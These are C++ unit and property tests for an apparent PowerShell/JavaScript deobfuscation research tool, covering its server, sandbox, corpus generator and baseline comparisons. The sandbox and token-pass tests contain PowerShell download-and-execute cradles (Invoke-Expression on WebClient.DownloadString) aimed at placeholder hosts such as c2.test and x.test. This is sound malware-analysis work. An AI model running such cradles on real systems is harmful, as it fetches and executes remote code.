  ASSERT_EQ(::write(fd, "precious", 8), 8);
  ::close(fd);

  // A typoed --socket pointing at real data must fail loudly, not unlink.
  Server server(base_config(path));
  EXPECT_THROW(server.start(), std::runtime_error);
  struct stat st{};
  ASSERT_EQ(::stat(path.c_str(), &st), 0);
  EXPECT_TRUE(S_ISREG(st.st_mode));
  EXPECT_EQ(st.st_size, 8);
  ::unlink(path.c_str());
}

TEST(ServerTest, UnixSocketIsOwnerOnly) {
  const std::string sock = test_socket("perms");
  Server server(base_config(sock));
  server.start();
  struct stat st{};
  ASSERT_EQ(::stat(sock.c_str(), &st), 0);
  EXPECT_TRUE(S_ISSOCK(st.st_mode));
  EXPECT_EQ(st.st_mode & 0777, 0600u);
  server.stop();
}

// ---------------------------------------------------------------------------
// Observability plane: request ids, server traces, metrics identity, the
// debug (flight recorder) and trace ops.
// ---------------------------------------------------------------------------

TEST(ServerObservability, TracedRequestCarriesRequestIdAndSpanBreakdown) {
  const std::string sock = test_socket("reqtrace");
  Server server(base_config(sock));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  ideobf::Request request = deobf_request(kTicked, "traced-1");
  request.trace = true;
  const ServeReply reply = client.call(request);
  ASSERT_EQ(reply.status, "ok");

  // Every deobfuscate reply names its server-assigned request id; a
  // standalone daemon labels itself worker 0.
  ASSERT_FALSE(reply.request_id.empty());
  EXPECT_EQ(reply.request_id.rfind("w0-", 0), 0u) << reply.request_id;

  // The opt-in server trace splices the queue/cache/engine breakdown in.
  const ideobf::ServerTrace& st = reply.server_trace;
  ASSERT_TRUE(st.present);
  EXPECT_EQ(st.worker, 0);
  EXPECT_GE(st.queue_seconds, 0.0);
  EXPECT_GE(st.cache_seconds, 0.0);
  EXPECT_GT(st.engine_seconds, 0.0);
  ASSERT_FALSE(st.phases.empty());
  bool saw_pipeline = false;
  for (const auto& p : st.phases) {
    EXPECT_GT(p.count, 0u);
    if (p.phase == "pipeline") saw_pipeline = true;
  }
  EXPECT_TRUE(saw_pipeline);
  // The self-time partition invariant rides the wire intact: accounted
  // equals the engine span within 5% (plus a clock-granularity floor).
  const double tolerance = std::max(st.engine_seconds * 0.05, 1e-4);
  EXPECT_NEAR(st.accounted_seconds, st.engine_seconds, tolerance);

  // The lightweight opt-in gets the same span breakdown without the
  // per-pass change-trace events.
  ideobf::Request light = deobf_request(kTicked, "light-1");
  light.server_trace = true;
  const ServeReply lr = client.call(light);
  ASSERT_EQ(lr.status, "ok");
  EXPECT_TRUE(lr.server_trace.present);
  EXPECT_FALSE(lr.server_trace.phases.empty());
  EXPECT_TRUE(lr.response.report.trace.empty());

  // An untraced request still gets a (distinct) request id, but pays for no
  // span rendering.
  const ServeReply plain = client.call(deobf_request(kTicked, "plain"));
  ASSERT_EQ(plain.status, "ok");
  EXPECT_FALSE(plain.request_id.empty());
  EXPECT_NE(plain.request_id, reply.request_id);
  EXPECT_FALSE(plain.server_trace.present);
  server.stop();
}

TEST(ServerObservability, MetricsReplyCarriesWorkerAndBuildIdentity) {
  const std::string sock = test_socket("metricsid");
  Server server(base_config(sock));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  (void)client.call(deobf_request(kTicked, "m1"));
  const ideobf::MetricsReply m = client.metrics_reply();
  EXPECT_EQ(m.worker, 0);
  EXPECT_EQ(m.fleet_workers, 0);  // process scope merges nothing
  EXPECT_NE(m.exposition.find("ideobf_build_info{"), std::string::npos);
  EXPECT_NE(m.exposition.find("ideobf_server_uptime_seconds"),
            std::string::npos);
  EXPECT_NE(m.exposition.find("ideobf_worker_id{worker=\"0\"} 0"),
            std::string::npos)
      << m.exposition.substr(0, 2000);
  EXPECT_NE(m.exposition.find("ideobf_server_queue_wait_seconds"),
            std::string::npos);
  server.stop();
}

TEST(ServerObservability, DebugOpDumpsFlightRecorderWithRequestIds) {
  const std::string sock = test_socket("debugop");
  Server server(base_config(sock));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  const ServeReply reply = client.call(deobf_request(kTicked, "fdr-1"));
  ASSERT_EQ(reply.status, "ok");
  ASSERT_FALSE(reply.request_id.empty());

  const std::string dump = client.debug_dump();
  EXPECT_NE(dump.find("\"flight\":["), std::string::npos) << dump;
  // The completed request is in the ring, joined by its request id, with
  // its client correlation id and a terminal outcome.
  EXPECT_NE(dump.find(reply.request_id), std::string::npos) << dump;
  EXPECT_NE(dump.find("\"id\":\"fdr-1\""), std::string::npos) << dump;
  EXPECT_NE(dump.find("\"outcome\":\"ok\""), std::string::npos) << dump;
  server.stop();
}

TEST(ServerObservability, TraceOpNeedsAnArmedRecorder) {
  const std::string sock = test_socket("traceop");
  {
    // Unarmed daemon: the op answers an invalid error, the client helper
    // maps that to empty.
    Server server(base_config(sock));
    server.start();
    ServeClient client = ServeClient::connect_unix(sock);
    EXPECT_TRUE(client.trace_json().empty());
    server.stop();
  }
  {
    const std::string trace_path = sock + ".trace.json";
    ServerConfig cfg = base_config(sock);
    cfg.trace_out_path = trace_path;
    Server server(std::move(cfg));
    server.start();
    ServeClient client = ServeClient::connect_unix(sock);
    ASSERT_EQ(client.call(deobf_request(kTicked, "t1")).status, "ok");
    const std::string live = client.trace_json();
    EXPECT_NE(live.find("\"traceEvents\":["), std::string::npos);
    server.stop();
    // Teardown wrote the full Chrome trace to --trace-out.
    std::ifstream in(trace_path, std::ios::binary);
    std::stringstream ss;
    ss << in.rdbuf();
    EXPECT_NE(ss.str().find("\"traceEvents\":["), std::string::npos);
    ::unlink(trace_path.c_str());
  }
}

TEST(ServerObservability, RefusalsEchoTheRequestId) {
  const std::string sock = test_socket("refusalid");
  ServerConfig cfg = base_config(sock);
  cfg.threads = 1;
  cfg.max_queue = 1;
  Server server(std::move(cfg));
  server.start();

  RawConn busy(sock);
  busy.send_line(
      ideobf::server::render_request_line(hostile_request("busy", 2000)));
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  RawConn queued(sock);
  queued.send_line(
      ideobf::server::render_request_line(hostile_request("queued", 2000)));
  std::this_thread::sleep_for(std::chrono::milliseconds(100));

  ServeClient client = ServeClient::connect_unix(sock);
  const ServeReply reply = client.call(deobf_request(kTicked, "rejected"));
  EXPECT_EQ(reply.status, "overloaded");
  // Even a refusal is joinable against the logs and the flight recorder.
  EXPECT_FALSE(reply.request_id.empty()) << "overloaded reply lost its id";
  server.stop();
}

TEST(FlightRecorder, RingRecordsLifecycleAndMirrorsToFile) {
  using ideobf::server::FlightRecorder;
  FlightRecorder recorder;
  const std::string path = test_socket("flight") + ".bin";
  std::string error;
  ASSERT_TRUE(recorder.open_mirror(path, error)) << error;

  FlightRecorder::Record record;
  record.request_id = "w0-7";
  record.client_id = "client-req";
  record.script_hash = "00000000deadbeef";
  record.client = 42;
  record.queue_seconds = 0.001;
  const std::uint64_t seq = recorder.begin(record);
  ASSERT_GT(seq, 0u);

  // In flight: the dump (and the file mirror) say so.
  std::string dump = recorder.dump_json();
  EXPECT_NE(dump.find("\"request_id\":\"w0-7\""), std::string::npos) << dump;
  EXPECT_NE(dump.find("\"outcome\":\"inflight\""), std::string::npos);

  // The mirror is pre-sized (one fixed record per slot) so a harvester
  // never short-reads, and already carries the in-flight record.
  struct stat st{};
  ASSERT_EQ(::stat(path.c_str(), &st), 0);
  EXPECT_EQ(static_cast<std::size_t>(st.st_size),
            FlightRecorder::kSlots * FlightRecorder::kFileRecordBytes);
  {
    std::ifstream in(path, std::ios::binary);
    std::stringstream ss;
    ss << in.rdbuf();
    EXPECT_NE(ss.str().find("\"request_id\":\"w0-7\""), std::string::npos);
    EXPECT_NE(ss.str().find("\"outcome\":\"inflight\""), std::string::npos);
  }

  // Completion overwrites the slot in place.
  ideobf::telemetry::PipelineProfile profile;
  recorder.finish(seq, "ok", 0.002, 0.003, profile);
  dump = recorder.dump_json();
  EXPECT_NE(dump.find("\"outcome\":\"ok\""), std::string::npos) << dump;
  EXPECT_EQ(dump.find("\"outcome\":\"inflight\""), std::string::npos);

  // Newest first: a second request leads the dump.
  FlightRecorder::Record second;
  second.request_id = "w0-8";
  recorder.begin(second);
  dump = recorder.dump_json();
  EXPECT_LT(dump.find("w0-8"), dump.find("w0-7")) << dump;
  ::unlink(path.c_str());
}

// ---------------------------------------------------------------- language

TEST(ServerLanguage, UnknownLanguageIsRefusedAtParseNotGuessed) {
  const std::string sock = test_socket("lang-refuse");
  Server server(base_config(sock));
  server.start();

  RawConn conn(sock);
  conn.send_line(
      R"({"op":"deobfuscate","source":"x = 1","language":"klingon"})");
  const std::string reply = conn.recv_line();
  // Strict like the rest of the schema: a typoed language fails the parse
  // loudly instead of falling through to an engine passthrough.
  EXPECT_NE(reply.find("\"status\":\"invalid\""), std::string::npos) << reply;
  EXPECT_NE(reply.find("unknown language"), std::string::npos) << reply;
  EXPECT_NE(reply.find("klingon"), std::string::npos) << reply;

  server.stop();
  EXPECT_GE(server.stats().invalid_total, 1u);
}

TEST(ServerLanguage, JavascriptRequestRoundTripsOverTheWire) {
  const std::string sock = test_socket("lang-js");
  Server server(base_config(sock));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  Request request = deobf_request("eval('con' + 'sole.log(\"w\")');", "js-1");
  request.language = "javascript";
  const ServeReply reply = client.call(request);
  EXPECT_EQ(reply.status, "ok");
  EXPECT_EQ(reply.response.language, "javascript");
  EXPECT_EQ(reply.response.result, "console.log(\"w\");");
  EXPECT_EQ(reply.response.report.multilayer.layers_unwrapped, 1);

  server.stop();
}

TEST(ServerLanguage, AutoSniffsEachRequestToItsFrontend) {
  const std::string sock = test_socket("lang-auto");
  Server server(base_config(sock));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  Request js = deobf_request("var x = atob('aGk=');\nf(x);\n", "auto-js");
  js.language = "auto";
  const ServeReply js_reply = client.call(js);
  EXPECT_EQ(js_reply.response.language, "javascript");
  EXPECT_NE(js_reply.response.result.find("'hi'"), std::string::npos)
      << js_reply.response.result;

  Request ps = deobf_request(kTicked, "auto-ps");
  ps.language = "auto";
  const ServeReply ps_reply = client.call(ps);
  EXPECT_EQ(ps_reply.response.language, "powershell");
  EXPECT_NE(ps_reply.response.result.find("Write-Host"), std::string::npos);

  server.stop();
}

TEST(ServerLanguage, MixedLanguageTrafficOnOneConnection) {
  const std::string sock = test_socket("lang-mixed");
  Server server(base_config(sock));
  server.start();

  ServeClient client = ServeClient::connect_unix(sock);
  for (int round = 0; round < 3; ++round) {
    Request ps = deobf_request(kTicked, "ps-" + std::to_string(round));
    const ServeReply ps_reply = client.call(ps);
    EXPECT_EQ(ps_reply.response.language, "powershell");
    EXPECT_TRUE(ps_reply.response.ok);

    Request js = deobf_request("g('a' + 'b');", "js-" + std::to_string(round));
    js.language = "javascript";
    const ServeReply js_reply = client.call(js);
    EXPECT_EQ(js_reply.response.language, "javascript");
    EXPECT_EQ(js_reply.response.result, "g('ab');");
  }

  server.stop();
  EXPECT_GE(server.stats().ok_total, 6u);
}

TEST(ServerLanguage, OptionsFingerprintDivergesPerLanguage) {
  // The shared-cache key's second half must separate languages: identical
  // options and source bytes submitted under different front-ends may
  // never alias to one cached response.
  const ideobf::Options options;
  const std::vector<std::string> blocklist;
  const std::string ps_fp = ideobf::server::options_fingerprint(
      options, 0, blocklist, "powershell");
  const std::string js_fp = ideobf::server::options_fingerprint(
      options, 0, blocklist, "javascript");
  EXPECT_NE(ps_fp, js_fp);
  // Deterministic per language, so hits still happen within one.
  EXPECT_EQ(ps_fp, ideobf::server::options_fingerprint(options, 0, blocklist,
                                                       "powershell"));
}

TEST(ServerLanguage, SharedCacheDoesNotAliasAcrossLanguages) {
  const std::string sock = test_socket("lang-cache");
  const std::string cache = "/tmp/ideobf-test-langcache-" +
                            std::to_string(::getpid()) + ".bin";
  ServerConfig cfg = base_config(sock);
  cfg.cache_path = cache;
  Server server(cfg);
  server.start();

  // The same source bytes, valid in both grammars, with different
  // pipeline results: PowerShell leaves it alone, JavaScript folds it.
  const std::string source = "g('a' + 'b');";
  ServeClient client = ServeClient::connect_unix(sock);

  Request ps = deobf_request(source, "cache-ps");
  ps.language = "powershell";
  const ServeReply ps_reply = client.call(ps);
  EXPECT_TRUE(ps_reply.response.ok);
  EXPECT_FALSE(ps_reply.cached);

  Request js = deobf_request(source, "cache-js");
  js.language = "javascript";
  const ServeReply js_reply = client.call(js);
  // A language-blind cache key would serve the PowerShell entry here.
  EXPECT_FALSE(js_reply.cached);
  EXPECT_EQ(js_reply.response.result, "g('ab');");
  EXPECT_NE(js_reply.response.result, ps_reply.response.result);

  // Within one language the cache still hits.
  Request js_again = deobf_request(source, "cache-js-2");
  js_again.language = "javascript";
  const ServeReply again = client.call(js_again);
  EXPECT_TRUE(again.cached);
  EXPECT_EQ(again.response.result, "g('ab');");

  server.stop();
  ::unlink(cache.c_str());
}
