// Tests for the behavior-recording sandbox (Table IV substrate) and the
// wild-corpus generator (Table I calibration, ground-truth bookkeeping).

#include <gtest/gtest.h>

#include "baselines/baseline.h"
#include "corpus/corpus.h"
#include "psast/parser.h"
#include "sandbox/sandbox.h"

namespace ideobf {
namespace {

TEST(Sandbox, RecordsNetworkEvents) {
  Sandbox sandbox;
  const BehaviorProfile p = sandbox.run(
      "(New-Object Net.WebClient).DownloadString('https://c2.test/beacon')");
  EXPECT_TRUE(p.executed_ok);
  EXPECT_TRUE(p.has_network());
  EXPECT_TRUE(p.network.count("dns:c2.test"));
  EXPECT_TRUE(p.network.count("tcp:c2.test:443"));
  EXPECT_TRUE(p.network.count("http:https://c2.test/beacon"));
}

TEST(Sandbox, SimulatedTimeAccounting) {
  Sandbox sandbox;
  const BehaviorProfile p = sandbox.run("Start-Sleep 7; Start-Process calc");
  EXPECT_GE(p.simulated_seconds, 7.0);
  EXPECT_EQ(p.processes.size(), 1u);
}

TEST(Sandbox, DeterministicDownloads) {
  Sandbox sandbox;
  const char* script =
      "iex ((New-Object Net.WebClient).DownloadString('http://x.test/s'))";
  const BehaviorProfile a = sandbox.run(script);
  const BehaviorProfile b = sandbox.run(script);
  EXPECT_EQ(a.network, b.network);
  EXPECT_EQ(a.host_output, b.host_output);
}

TEST(Sandbox, SameNetworkBehaviorCriterion) {
  Sandbox sandbox;
  const BehaviorProfile a =
      sandbox.run("(New-Object Net.WebClient).DownloadString('http://a.test/')");
  const BehaviorProfile b = sandbox.run(
      "$u = 'http://a.test/'\n(New-Object Net.WebClient).DownloadString($u)");
  const BehaviorProfile c =
      sandbox.run("(New-Object Net.WebClient).DownloadString('http://b.test/')");
  EXPECT_TRUE(Sandbox::same_network_behavior(a, b));
  EXPECT_FALSE(Sandbox::same_network_behavior(a, c));
}

TEST(Sandbox, InvalidScriptReportsError) {
  Sandbox sandbox;
  const BehaviorProfile p = sandbox.run("if (");
  EXPECT_FALSE(p.executed_ok);
  EXPECT_FALSE(p.error.empty());
}

TEST(Sandbox, ObfuscationPreservesBehavior) {
  // The ground truth behind Table IV: an obfuscated sample behaves like its
  // original.
  CorpusGenerator gen(77);
  Sandbox sandbox;
  int with_network = 0;
  for (const Sample& s : gen.generate_batch(30)) {
    const BehaviorProfile orig = sandbox.run(s.original);
    const BehaviorProfile obf = sandbox.run(s.obfuscated);
    if (orig.has_network()) ++with_network;
    EXPECT_TRUE(Sandbox::same_network_behavior(orig, obf))
        << s.family << "\n--- original:\n" << s.original
        << "\n--- obfuscated:\n" << s.obfuscated;
  }
  EXPECT_GT(with_network, 20);  // the families are network-heavy
}

// ---------------------------------------------------------------- corpus

TEST(Corpus, Deterministic) {
  CorpusGenerator a(5), b(5);
  const Sample sa = a.generate();
  const Sample sb = b.generate();
  EXPECT_EQ(sa.original, sb.original);
  EXPECT_EQ(sa.obfuscated, sb.obfuscated);
}

TEST(Corpus, ObfuscatedSamplesAreValidSyntax) {
  CorpusGenerator gen(11);
  for (const Sample& s : gen.generate_batch(50)) {
    EXPECT_TRUE(ps::is_valid_syntax(s.original)) << s.original;
    EXPECT_TRUE(ps::is_valid_syntax(s.obfuscated)) << s.obfuscated;
  }
}

TEST(Corpus, GroundTruthHasIndicators) {
  CorpusGenerator gen(13);
  for (const Sample& s : gen.generate_batch(25)) {
    EXPECT_GT(s.ground_truth.total(), 0) << s.original;
  }
}

TEST(Corpus, LevelMixApproximatesTableI) {
  CorpusGenerator gen(2021);
  const auto batch = gen.generate_batch(300);
  int l1 = 0, l2 = 0, l3 = 0, multilayer = 0;
  for (const Sample& s : batch) {
    bool h1 = false, h2 = false, h3 = false;
    for (Technique t : s.techniques) {
      if (technique_level(t) == 1) h1 = true;
      if (technique_level(t) == 2) h2 = true;
      if (technique_level(t) == 3) h3 = true;
    }
    if (s.layers > 0) {
      ++multilayer;
      h3 = true;  // layer wrapping itself hides content
    }
    l1 += h1;
    l2 += h2;
    l3 += h3;
  }
  // Generous tolerance: the point is "nearly all samples have all levels".
  EXPECT_GT(l1, 270);
  EXPECT_GT(l2, 250);
  EXPECT_GT(l3, 240);
  EXPECT_GT(multilayer, 15);
  EXPECT_LT(multilayer, 90);
}

TEST(Corpus, MultilayerSamples) {
  CorpusGenerator gen(3);
  for (int layers = 1; layers <= 3; ++layers) {
    for (int mix = 0; mix < 3; ++mix) {
      const Sample s = gen.generate_multilayer(layers, mix);
      EXPECT_EQ(s.layers, layers);
      EXPECT_TRUE(ps::is_valid_syntax(s.obfuscated)) << s.obfuscated;
      EXPECT_GT(s.ground_truth.total(), 0);
    }
  }
}

TEST(Corpus, FamiliesAllRender) {
  CorpusGenerator gen(17);
  for (int i = 0; i < 20; ++i) {
    const std::string clean = gen.random_clean_script();
    EXPECT_TRUE(ps::is_valid_syntax(clean)) << clean;
  }
}

// -------------------------------------------------------------- baselines

TEST(Baselines, AllToolsConstruct) {
  const auto tools = make_all_tools();
  ASSERT_EQ(tools.size(), 5u);
  EXPECT_EQ(tools[0]->name(), "PSDecode");
  EXPECT_EQ(tools[1]->name(), "PowerDrive");
  EXPECT_EQ(tools[2]->name(), "PowerDecode");
  EXPECT_EQ(tools[3]->name(), "Li et al.");
  EXPECT_EQ(tools[4]->name(), "Invoke-Deobfuscation");
}

TEST(Baselines, PSDecodeHandlesTicksAndLiteralLayers) {
  auto tool = make_psdecode();
  EXPECT_EQ(tool->run("Wri`te-Host hi").script, "Write-Host hi");
  EXPECT_EQ(tool->run("iex 'Write-Host hi'").script, "Write-Host hi");
  EXPECT_EQ(tool->run("'Write-Host hi' | iex").script, "Write-Host hi");
  // Concat layers are beyond its regexes (Table II).
  const std::string out = tool->run("iex ('Write-'+'Host hi')").script;
  EXPECT_NE(out, "Write-Host hi");
}

TEST(Baselines, PowerDriveFoldsConcatButFlattensLines) {
  auto tool = make_powerdrive();
  EXPECT_EQ(tool->run("Write-Host ('a'+'b')").script, "Write-Host ('ab')");
  const std::string out = tool->run("$a = 1\n$b = 2").script;
  EXPECT_EQ(out.find('\n'), std::string::npos);  // one line — often invalid
}

TEST(Baselines, PowerDecodeEvaluatesVariableFreeLayers) {
  auto tool = make_powerdecode();
  // Variable-free expression layer: caught by the overriding model.
  EXPECT_EQ(tool->run("iex ('Write-'+'Host hi')").script, "Write-Host hi");
  // A layer referencing a variable is beyond it.
  const std::string out =
      tool->run("$p = 'Write-Host hi'\niex ($p)").script;
  EXPECT_NE(out, "Write-Host hi");
}

TEST(Baselines, LiEtAlWrongObjectReplacement) {
  auto tool = make_li_etal();
  // The paper's Fig 8(c): the parenthesized object pipeline is replaced by
  // its type name, which is not even a valid PowerShell command.
  const std::string out =
      tool->run("(New-Object Net.WebClient).downloadstring('http://x.test/')")
          .script;
  EXPECT_NE(out.find("System.Net.WebClient"), std::string::npos) << out;
  EXPECT_EQ(out.find("New-Object"), std::string::npos) << out;
}

TEST(Baselines, LiEtAlCannotHandleVariables) {
  auto tool = make_li_etal();
  const std::string src = "$u = 'http'+'://x.test/'\nWrite-Host ($u + 'a')";
  const std::string out = tool->run(src).script;
  EXPECT_EQ(out.find("http://x.test/a"), std::string::npos);
}

TEST(Baselines, OursIsFastBaselinesPaySimulatedTime) {
  const std::string sleepy = "Start-Sleep 9\niex ('Write-'+'Host hi')";
  auto ours = make_invoke_deobfuscation();
  auto pd = make_powerdecode();
  EXPECT_EQ(ours->run(sleepy).simulated_seconds, 0.0);
  EXPECT_GE(pd->run(sleepy).simulated_seconds, 9.0);
}

TEST(Baselines, OursRecoversWhatOthersCannot) {
  CorpusGenerator gen(99);
  const Sample s = gen.generate_multilayer(2, 1);
  auto ours = make_invoke_deobfuscation();
  const std::string out = ours->run(s.obfuscated).script;
  const KeyInfo recovered = extract_key_info(out);
  EXPECT_EQ(s.ground_truth.recovered_in(recovered), s.ground_truth.total())
      << out;
}

}  // namespace
}  // namespace ideobf
