// Property tests for the system invariants listed in DESIGN.md section 6,
// swept over seeded random corpora with parameterized gtest.

#include <gtest/gtest.h>

#include "analysis/scorer.h"
#include "baselines/baseline.h"
#include "core/deobfuscator.h"
#include "core/reformat.h"
#include "corpus/corpus.h"
#include "pslang/lexer.h"
#include "psast/parser.h"
#include "sandbox/sandbox.h"

namespace ideobf {
namespace {

class CorpusSweep : public ::testing::TestWithParam<int> {
 protected:
  std::vector<Sample> samples() {
    CorpusGenerator gen(static_cast<std::uint64_t>(GetParam()) * 7919 + 13);
    return gen.generate_batch(6);
  }
};

// Invariant 1: behavior(original) == behavior(deobfuscate(obfuscated)).
TEST_P(CorpusSweep, SemanticsPreservation) {
  InvokeDeobfuscator deobf;
  Sandbox sandbox;
  for (const Sample& s : samples()) {
    const std::string clean = deobf.deobfuscate(s.obfuscated);
    const BehaviorProfile before = sandbox.run(s.original);
    const BehaviorProfile after = sandbox.run(clean);
    EXPECT_TRUE(Sandbox::same_network_behavior(before, after))
        << "family=" << s.family << "\n--- original:\n" << s.original
        << "\n--- obfuscated:\n" << s.obfuscated << "\n--- clean:\n" << clean;
  }
}

// Invariant 2: the deobfuscator's output always reparses.
TEST_P(CorpusSweep, SyntaxValidity) {
  InvokeDeobfuscator deobf;
  for (const Sample& s : samples()) {
    const std::string clean = deobf.deobfuscate(s.obfuscated);
    EXPECT_TRUE(ps::is_valid_syntax(clean)) << clean;
  }
}

// Invariant 4: deobfuscation is idempotent at its fixed point.
TEST_P(CorpusSweep, Idempotence) {
  InvokeDeobfuscator deobf;
  for (const Sample& s : samples()) {
    const std::string once = deobf.deobfuscate(s.obfuscated);
    const std::string twice = deobf.deobfuscate(once);
    EXPECT_EQ(once, twice) << s.obfuscated;
  }
}

// Invariant 5: the obfuscation score never increases under deobfuscation —
// per sample for unlayered scripts; for layered ones, unwrapping can
// *reveal* residual techniques that the Base64 wrapper hid from the scorer
// (e.g. an unrecoverable binary payload), so only the batch total must drop.
TEST_P(CorpusSweep, ScoreMonotonicity) {
  InvokeDeobfuscator deobf;
  int total_before = 0, total_after = 0;
  for (const Sample& s : samples()) {
    const int before = obfuscation_score(s.obfuscated);
    const int after = obfuscation_score(deobf.deobfuscate(s.obfuscated));
    total_before += before;
    total_after += after;
    if (s.layers == 0) {
      EXPECT_LE(after, before) << s.obfuscated;
    }
  }
  EXPECT_LE(total_after, total_before);
}

// Invariant 6a: token extents exactly tile the source (no gaps into token
// text, no overlaps) for every generated sample.
TEST_P(CorpusSweep, TokenExtentsTile) {
  for (const Sample& s : samples()) {
    bool ok = true;
    const auto tokens = ps::tokenize_lenient(s.obfuscated, ok);
    ASSERT_TRUE(ok) << s.obfuscated;
    std::size_t prev_end = 0;
    for (const auto& t : tokens) {
      EXPECT_GE(t.start, prev_end);
      EXPECT_EQ(s.obfuscated.substr(t.start, t.length), t.text);
      prev_end = t.end();
    }
  }
}

// Invariant 6b: the reformatter's output reparses and keeps the key info.
TEST_P(CorpusSweep, ReformatPreservesParseAndContent) {
  for (const Sample& s : samples()) {
    const std::string formatted = reformat_pass(s.original);
    EXPECT_TRUE(ps::is_valid_syntax(formatted)) << formatted;
    const KeyInfo before = extract_key_info(s.original);
    const KeyInfo after = extract_key_info(formatted);
    EXPECT_EQ(before.recovered_in(after), before.total()) << formatted;
  }
}

// Obfuscation itself must preserve behavior (the corpus generator's own
// correctness — everything in Table IV depends on it).
TEST_P(CorpusSweep, ObfuscationPreservesBehavior) {
  Sandbox sandbox;
  for (const Sample& s : samples()) {
    const BehaviorProfile a = sandbox.run(s.original);
    const BehaviorProfile b = sandbox.run(s.obfuscated);
    EXPECT_TRUE(Sandbox::same_network_behavior(a, b))
        << s.family << "\n" << s.obfuscated;
  }
}

// Baselines must never crash and always return *something* for any sample.
TEST_P(CorpusSweep, BaselinesTotalOnCorpus) {
  const auto tools = make_all_tools();
  for (const Sample& s : samples()) {
    for (const auto& tool : tools) {
      const BaselineResult r = tool->run(s.obfuscated);
      EXPECT_FALSE(r.script.empty()) << tool->name();
      EXPECT_GE(r.simulated_seconds, 0.0);
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, CorpusSweep, ::testing::Range(0, 12));

// ---- lexer robustness sweep: arbitrary byte soup must never crash ----

class LexerFuzz : public ::testing::TestWithParam<int> {};

TEST_P(LexerFuzz, LenientTokenizeNeverThrows) {
  std::mt19937 rng(GetParam() * 97 + 11);
  static constexpr std::string_view kChars =
      "abcXYZ019 \t\n'\"`$(){}[]|;&.,+-*/%=<>!@:#\\~^";
  for (int round = 0; round < 50; ++round) {
    std::string soup;
    const std::size_t n = rng() % 120;
    for (std::size_t i = 0; i < n; ++i) {
      soup.push_back(kChars[rng() % kChars.size()]);
    }
    bool ok = true;
    EXPECT_NO_THROW(ps::tokenize_lenient(soup, ok));
    // Parsing may fail but must not crash or hang.
    EXPECT_NO_THROW(ps::try_parse(soup));
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, LexerFuzz, ::testing::Range(0, 8));

// ---- deobfuscator robustness: arbitrary input never crashes, invalid
// input comes back unchanged ----

class DeobfFuzz : public ::testing::TestWithParam<int> {};

TEST_P(DeobfFuzz, TotalOnByteSoup) {
  std::mt19937 rng(GetParam() * 31 + 5);
  static constexpr std::string_view kChars =
      "abz01 '\"`$(){}[]|;&.,+-=iexWrite-Host";
  InvokeDeobfuscator deobf;
  for (int round = 0; round < 20; ++round) {
    std::string soup;
    const std::size_t n = rng() % 80;
    for (std::size_t i = 0; i < n; ++i) {
      soup.push_back(kChars[rng() % kChars.size()]);
    }
    std::string out;
    EXPECT_NO_THROW(out = deobf.deobfuscate(soup));
    if (!ps::is_valid_syntax(soup)) {
      EXPECT_EQ(out, soup);
    } else {
      EXPECT_TRUE(ps::is_valid_syntax(out));
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, DeobfFuzz, ::testing::Range(0, 6));

}  // namespace
}  // namespace ideobf
