// End-to-end tests for the Invoke-Deobfuscation core, driven by the
// paper's own examples (Listings 1-4, the Fig 7/8 case study) plus each
// phase in isolation.

#include <gtest/gtest.h>

#include "core/blocklist.h"
#include "core/deobfuscator.h"
#include "core/reformat.h"
#include "core/rename.h"
#include "core/token_pass.h"
#include "psast/parser.h"
#include "psinterp/aes.h"
#include "psinterp/deflate.h"
#include "psinterp/encodings.h"

namespace ideobf {
namespace {

std::string deobf(std::string_view script) {
  InvokeDeobfuscator d;
  return d.deobfuscate(script);
}

bool contains(std::string_view haystack, std::string_view needle) {
  return haystack.find(needle) != std::string_view::npos;
}

// ------------------------------------------------------------- token pass

TEST(TokenPass, RemovesTicks) {
  TokenPassStats st;
  const std::string out = token_pass("nE`w-oBjE`Ct nET.wE`bcLiEnT", &st);
  EXPECT_EQ(out, "New-Object net.webclient");
  EXPECT_GE(st.ticks_removed, 1);
}

TEST(TokenPass, ExpandsAliases) {
  TokenPassStats st;
  EXPECT_EQ(token_pass("IeX 'x'", &st), "Invoke-Expression 'x'");
  EXPECT_GE(st.aliases_expanded, 1);
  EXPECT_EQ(token_pass("gci C:\\", nullptr), "Get-ChildItem C:\\");
}

TEST(TokenPass, NormalizesRandomCase) {
  EXPECT_EQ(token_pass("WrItE-hOsT hello", nullptr), "Write-Host hello");
  EXPECT_EQ(token_pass("fOrEAch-ObJECt { $_ }", nullptr),
            "ForEach-Object { $_ }");
}

TEST(TokenPass, LeavesStringsAlone) {
  const char* src = "Write-Host 'IeX `tick` CaSe'";
  EXPECT_EQ(token_pass(src, nullptr), src);
}

TEST(TokenPass, NormalizesNamedOperators) {
  EXPECT_EQ(token_pass("'a' -SPLit 'b'", nullptr), "'a' -split 'b'");
  EXPECT_EQ(token_pass("'a,b' -jOiN ','", nullptr), "'a,b' -join ','");
}

TEST(TokenPass, PreservesInvalidInput) {
  const char* bad = "'unterminated";
  EXPECT_EQ(token_pass(bad, nullptr), bad);
}

TEST(TokenPass, Listing2) {
  // Paper Listing 2 -> Listing 1 at the token level.
  const std::string out = token_pass(
      "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrInG('https://test.com/"
      "malware.txt')",
      nullptr);
  EXPECT_EQ(out,
            "(New-Object net.webclient).downloadstring('https://test.com/"
            "malware.txt')");
}

// --------------------------------------------------------------- recovery

TEST(Recovery, ConcatIsRecovered) {
  RecoveryOptions opts;
  RecoveryStats st;
  EXPECT_EQ(recovery_pass("'he' + 'llo'", opts, &st), "'hello'");
  EXPECT_EQ(st.pieces_recovered, 1);
}

TEST(Recovery, ReorderIsRecovered) {
  RecoveryOptions opts;
  const std::string out =
      recovery_pass("\"{2}{0}{1}\" -f 'ost h','ello','write-h'", opts, nullptr);
  EXPECT_EQ(out, "'write-host hello'");
}

TEST(Recovery, VariableTracing) {
  RecoveryOptions opts;
  RecoveryStats st;
  const std::string out =
      recovery_pass("$a = 'mal'; $b = 'ware'; Write-Host ($a + $b)", opts, &st);
  EXPECT_TRUE(contains(out, "'malware'"));
  EXPECT_GE(st.variables_traced, 2);
  EXPECT_GE(st.variables_substituted, 2);
}

